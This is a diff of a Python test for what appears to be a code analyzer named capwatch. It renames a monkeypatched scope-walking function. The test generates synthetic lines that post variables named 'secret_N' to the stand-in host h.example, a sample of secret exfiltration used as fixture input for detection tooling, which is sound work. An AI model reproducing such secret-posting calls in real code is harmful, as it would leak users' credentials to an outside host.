@@ -610,13 +610,13 @@ def test_where_names_are_bound_is_worked_out_once_per_scope(monkeypatch: pytest.
     from capwatch.lang.python import analyzer as front_end
 
     walks: list[int] = []
-    index = front_end._assignment_index
+    index = front_end._walk_request_scope
 
     def counted(body: object) -> object:
         walks.append(1)
         return index(body)  # type: ignore[arg-type]
 
-    monkeypatch.setattr(front_end, "_assignment_index", counted)
+    monkeypatch.setattr(front_end, "_walk_request_scope", counted)
     lines = ["import requests"]
     for i in range(300):
         lines += [f"secret_{i % 7} = 'x'", f"requests.post('https://h.example/x', json=secret_{i % 7})"]
